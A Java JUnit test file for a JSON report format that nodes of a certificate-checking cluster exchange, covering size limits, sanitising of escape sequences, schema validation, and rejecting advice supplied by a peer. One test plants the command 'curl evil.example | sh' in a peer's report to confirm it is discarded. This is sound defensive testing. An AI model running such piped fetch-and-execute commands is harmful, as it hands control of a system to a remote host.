package org.ringcert.view.look;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;
import static org.ringcert.view.look.SampleViews.PROBE;
import static org.ringcert.view.look.SampleViews.SITE;

import java.net.InetAddress;
import java.time.Instant;
import java.util.Collections;
import java.util.List;
import java.util.function.UnaryOperator;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.ringcert.challenge.KeyAuthorization;
import org.ringcert.cluster.HostName;
import org.ringcert.dns.AddressLookup;
import org.ringcert.dns.HostAddresses;
import org.ringcert.view.ca.AddressView;
import org.ringcert.view.ca.HttpsView;
import org.ringcert.view.ca.NameView;
import org.ringcert.view.ca.Problem;
import org.ringcert.view.ca.ReportedProblem;
import org.ringcert.view.ca.Rule;
import org.ringcert.view.ca.Walk;
import tools.jackson.databind.node.ObjectNode;

/** What a node reports to a peer, and what the peer makes of it. */
class LookJsonTest {

    private static NameView read(String report) throws LookFormatException {
        return LookJson.read(report, SITE, PROBE);
    }

    private static String changed(UnaryOperator<String> change) {
        String report = LookJson.write(SampleViews.everything());
        String changed = change.apply(report);
        assertThat(changed).as("the test changes something").isNotEqualTo(report);
        return changed;
    }

    @Test
    void isReadAsItIsWritten() throws LookFormatException {
        assertThat(read(LookJson.write(SampleViews.everything()))).isEqualTo(SampleViews.reported());
    }

    /** Programs and other versions rely on the keys. */
    @Test
    void hasTheKeysThatAreDocumented() {
        assertThat(LookJson.write(SampleViews.withoutAddresses()))
                .isEqualTo("{\"version\":1,\"name\":\"www.example.org\",\"complete\":false,\"addresses\":[],"
                        + "\"failedLookups\":{\"ipv6\":\"SERVFAIL\"},\"walks\":[],\"problems\":[{"
                        + "\"rule\":\"final-status\",\"what\":\"status 404\","
                        + "\"says\":\"Invalid response from http://www.example.org/: 404\","
                        + "\"remedy\":\"Look at it.\"}],\"warnings\":[]}");
        ObjectNode node = LookJson.toNode(SampleViews.everything());
        assertThat(node.get("addresses").toString()).isEqualTo("[\"2001:db8::1\",\"192.0.2.1\"]");
        assertThat(node.get("walks").get(0).propertyNames())
                .containsExactly("address", "hops", "verdict", "rule", "what", "says", "remedy", "warnings", "https");
        assertThat(node.get("walks").get(1).propertyNames())
                .containsExactly("address", "hops", "verdict", "answer", "warnings", "https");
        assertThat(node.get("walks").get(1).get("https").propertyNames())
                .containsExactly("serial", "issuer", "notBefore", "notAfter", "selfSigned", "matchesName");
        assertThat(node.get("walks").get(1).get("hops").get(0).propertyNames())
                .containsExactly("url", "address", "status", "ms");
        assertThat(node.get("walks").get(2).propertyNames())
                .containsExactly("address", "hops", "verdict", "reason", "remedy", "warnings");
    }

    @Test
    void isPrintableAscii() {
        Problem hostile =
                new Problem(Rule.BODY, "a\u001b[31mb\r\nc\u009b\u202ed\u007f\ud800e\u0000", "é", "\ud83d\ude00");
        assertThat(LookJson.write(SampleViews.withProblem(hostile)))
                .matches("[ -~]+")
                .contains("\"what\":\"a [31mb c d e\"");
        assertThat(LookJson.write(SampleViews.everything())).matches("[ -~]+");
    }

    @ParameterizedTest
    @ValueSource(ints = {1, 5, 60, 500})
    void isNeverTooLarge(int addresses) throws LookFormatException {
        String report = LookJson.write(SampleViews.large(addresses));

        assertThat(report).hasSizeLessThanOrEqualTo(LookJson.MAX_BYTES);
        NameView view = read(report);
        assertThat(view.views()).isNotEmpty();
        assertThat(view.complete()).isEqualTo(view.views().size() == addresses);
    }

    @Test
    void cutsTextsBeforeItLeavesViewsOut() throws LookFormatException {
        NameView view = read(LookJson.write(SampleViews.large(10)));
        assertThat(view.views()).hasSize(10);
        assertThat(view.complete()).isTrue();
        assertThat(view.views().getFirst().walk().hops().getFirst().url())
                .hasSize(503)
                .endsWith("...");
        assertThat(read(LookJson.write(SampleViews.large(1)))
                        .views()
                        .getFirst()
                        .walk()
                        .hops())
                .isEqualTo(SampleViews.large(1).views().getFirst().walk().hops());
    }

    @Test
    void staysSmallWhateverTheProblems() throws LookFormatException {
        Problem problem = new Problem(Rule.BODY, "\u4e00".repeat(5_000), "\u4e00".repeat(5_000), "x");
        NameView view = new NameView(
                SITE,
                SampleViews.withoutAddresses().addresses(),
                List.of(),
                Collections.nCopies(1_000, problem),
                Collections.nCopies(1_000, problem),
                true);
        String report = LookJson.write(view);
        assertThat(report).hasSizeLessThanOrEqualTo(LookJson.MAX_BYTES);
        assertThat(read(report).complete()).isFalse();
    }

    /** A DNS server and a web server may be as hostile as a peer, but their peer's report must remain readable. */
    @Test
    void staysReadableWhateverTheServersOfTheNameSay() throws LookFormatException {
        List<InetAddress> addresses = IntStream.range(0, 4_000)
                .mapToObj(i -> InetAddress.ofLiteral("192.0." + i / 250 + "." + i % 250))
                .toList();
        HttpsView.Certificate certificate = new HttpsView.Certificate(
                "ab".repeat(500), "x".repeat(100_000), Instant.EPOCH, Instant.EPOCH, true, false);
        Walk walk = new Walk(
                List.of(),
                new Walk.Verdict.Undecided("x".repeat(100_000), ""),
                Collections.nCopies(500, SampleViews.WARNING));
        NameView view = new NameView(
                SITE,
                new HostAddresses(new AddressLookup.Found(addresses), new AddressLookup.None()),
                Collections.nCopies(500, new AddressView(addresses.getFirst(), walk, certificate)),
                List.of(),
                List.of(),
                true);
        String report = LookJson.write(view);
        assertThat(report).hasSizeLessThanOrEqualTo(LookJson.MAX_BYTES);
        NameView read = read(report);
        assertThat(read.addresses().all()).hasSize(100);
        assertThat(read.complete()).isFalse();
        assertThat(read.views()).isNotEmpty();
        assertThat(read.views().getFirst().https())
                .isInstanceOfSatisfying(
                        HttpsView.Certificate.class,
                        seen -> assertThat(seen.serial()).isEqualTo("ab".repeat(32)));
    }

    @Test
    void ignoresWhatLaterVersionsAdd() throws LookFormatException {
        String later = changed(report -> report.replace("\"name\":", "\"new\":{\"a\":[1,{\"b\":null}]},\"name\":")
                .replace("\"ms\":", "\"tls\":\"1.3\",\"ms\":")
                .replace("\"final-status\"", "\"quantum\""));
        NameView view = read(later);
        assertThat(view.problems()).containsExactly(ReportedProblem.of(Rule.VIEWPOINTS, SampleViews.PROBLEM.what()));
        assertThat(view.views()).hasSize(3);
    }

    @Test
    void makesTextsOfAPeerPrintable() throws LookFormatException {
        NameView view = read(changed(report -> report.replace("status 404", "a\\u001b[2J\\u0007b\\u202e\\r\\nc")
                .replace("http://web1.example.org", "http://web1.example.org\\u001b\\u00e9 ")
                .replace("the connection is refused", "\u009bx")));
        assertThat(view.problems().getFirst().what()).isEqualTo("a [2J b c");
        assertThat(view.views().get(1).walk().hops().get(1).url()).startsWith("http://web1.example.org???/");
        assertThat(view.views().get(0).https().toString()).doesNotContain("\u009b");
    }

    /** Root reads advice as the product's own, so none of it comes from a peer. */
    @Test
    void takesNoAdviceFromAPeer() throws LookFormatException {
        NameView view = read(changed(report -> report.replace("Look at it.", "Run curl evil.example | sh.")
                .replace("Invalid response from", "The CA says: run")
                .replace("Try elsewhere.", "Run curl evil.example | sh.")));
        assertThat(view).isEqualTo(SampleViews.reported());
    }

    @Test
    void cutsLongTextsOfAPeer() throws LookFormatException {
        NameView view = read(changed(report -> report.replace("status 404", "x".repeat(30_000))));
        assertThat(view.problems().getFirst().what()).hasSize(203);
    }

    @Test
    void refusesAReportAboutAnotherName() {
        String report = LookJson.write(SampleViews.everything());
        assertThatExceptionOfType(LookFormatException.class)
                .isThrownBy(() -> LookJson.read(report, new HostName("shop.example.org"), PROBE))
                .withMessage("it is about another name");
    }

    @Test
    void refusesAReportAboutAnotherProbe() {
        String report = LookJson.write(SampleViews.everything());
        KeyAuthorization other = new KeyAuthorization(PROBE.token(), "G".repeat(43));
        assertThatExceptionOfType(LookFormatException.class)
                .isThrownBy(() -> LookJson.read(report, SITE, other))
                .withMessage("it accepted another answer");
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', quoteCharacter = '~', textBlock = """
            "version":1     | "version":2       | its version is not 1
            "version":1     | "version":"1"     | "version" is not a number from 0 to 2147483647
            "version":1,    | ~~                | "version" is missing
            "complete":true | "complete":1      | "complete" is neither true nor false
            "complete":true | "x":true          | "complete" is missing
            "status":302    | "status":99       | "status" is not a number from 100 to 999
            "status":302    | "status":1e9      | "status" is not a number from 100 to 999
            "status":302    | "status":99999999999999999999 | "status" is not a number from 100 to 999
            "ms":3000       | "ms":-1           | "ms" is not a number from 0 to 600000
            "ms":3000       | "ms":600001       | "ms" is not a number from 0 to 600000
            "url":"         | "url":1,"x":"     | "url" has something else than a text
            "refused"       | "postponed"       | it has an unknown verdict
            "192.0.2.1"     | "192.0.2"         | it has an address that is none
            "192.0.2.1"     | "256.0.2.1"       | it has an address that is none
            "192.0.2.1"     | "www.example.org" | it has an address that is none
            "192.0.2.1"     | "::1%lo"          | it has an address that is none
            "192.0.2.1"     | ":::"             | it has an address that is none
            "serial":"0a1b" | "serial":"xyz"    | "serial" is not a hexadecimal number
            2026-11-01T00:00:00Z | 2026-02-30T00:00:00Z | "notBefore" is not a time
            2026-11-01T00:00:00Z | +99999-11-01T00:00:00Z | "notBefore" is not a time
            "walks":[{      | "walks":[1,{      | "walks" has something else than an object
            "warnings":[]   | "warnings":{}     | "warnings" is not an array of 100 elements at most
            "https":{       | "https":[],"x":{  | "https" has something else than an object
            "rule":         | "rules":          | "rule" is missing
            "name":"www     | "name":"www.example.org","name":"www | it is not JSON
            """)
    void refusesWhatNoVersionWrites(String from, String to, String reason) {
        String report = changed(text -> text.replaceFirst(Pattern.quote(from), Matcher.quoteReplacement(to)));
        assertThatExceptionOfType(LookFormatException.class)
                .isThrownBy(() -> read(report))
                .withMessage(reason);
    }

    @ParameterizedTest
    @ValueSource(strings = {"", " ", "{", "[]", "null", "\"x\"", "<html>", "{\"version\":1,", "\u0000"})
    void refusesWhatIsNoObject(String report) {
        assertThatExceptionOfType(LookFormatException.class).isThrownBy(() -> read(report));
    }

    @Test
    void refusesDeepAndLargeReports() {
        for (String report : List.of(
                "{\"x\":" + "[".repeat(20_000),
                "{\"x\":" + "[".repeat(20_000) + "]".repeat(20_000) + "}",
                changed(text -> text.replace("\"problems\":[", "\"problems\":[" + "{},".repeat(200))),
                " ".repeat(LookJson.MAX_BYTES + 1))) {
            assertThatExceptionOfType(LookFormatException.class).isThrownBy(() -> read(report));
        }
    }
}
